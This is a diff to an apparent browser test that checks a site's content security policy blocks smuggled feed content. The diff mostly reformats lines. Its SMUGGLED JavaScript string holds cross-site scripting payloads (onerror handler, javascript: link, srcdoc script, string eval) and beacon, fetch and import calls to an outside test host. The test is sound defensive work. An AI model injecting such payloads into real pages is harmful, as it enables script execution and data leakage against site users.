@@ -1,4 +1,6 @@
-"""The content security policy, proved in a browser: pages work under it, and what feed text could smuggle in does nothing."""
+"""The content security policy, proved in a browser:
+pages work under it, and what feed text could smuggle in does nothing.
+"""
 
 import asyncio
 
@@ -12,8 +14,10 @@ PAGES = ("", "articles", "stories", "feeds", "oil")
 SMUGGLED = """async (elsewhere) => {
     window.ran = [];
     const inside = document.createElement('div');
-    inside.innerHTML = `<img src="${elsewhere}/image"><img src=x onerror="window.ran.push('handler')"><iframe src="${elsewhere}/frame"></iframe>
-        <iframe srcdoc="<script>parent.ran.push('frame')</` + `script>"></iframe><object data="${elsewhere}/object"></object>
+    inside.innerHTML = `<img src="${elsewhere}/image"><img src=x onerror="window.ran.push('handler')">
+        <iframe src="${elsewhere}/frame"></iframe>
+        <iframe srcdoc="<script>parent.ran.push('frame')</` + `script>"></iframe>
+        <object data="${elsewhere}/object"></object>
         <link rel=stylesheet href="${elsewhere}/style"><form action="${elsewhere}/form"><button>x</button></form>
         <style>@import url("${elsewhere}/import"); body {background: url("${elsewhere}/background")}</style>
         <a id=smuggled href="javascript:window.ran.push('link')">x</a>`;
@@ -25,7 +29,8 @@ SMUGGLED = """async (elsewhere) => {
     inside.querySelector('form').submit();
     inside.querySelector('#smuggled').click();
     setTimeout("window.ran.push('eval')", 10);
-    const refused = await Promise.allSettled([fetch(`${elsewhere}/fetch`, {mode: 'no-cors'}), import(`${elsewhere}/module`)]);
+    const asked = [fetch(`${elsewhere}/fetch`, {mode: 'no-cors'}), import(`${elsewhere}/module`)];
+    const refused = await Promise.allSettled(asked);
     navigator.sendBeacon(`${elsewhere}/beacon`, 'x');
     await new Promise(done => setTimeout(done, 700));
     return {ran: window.ran, refused: refused.map(one => one.status)};
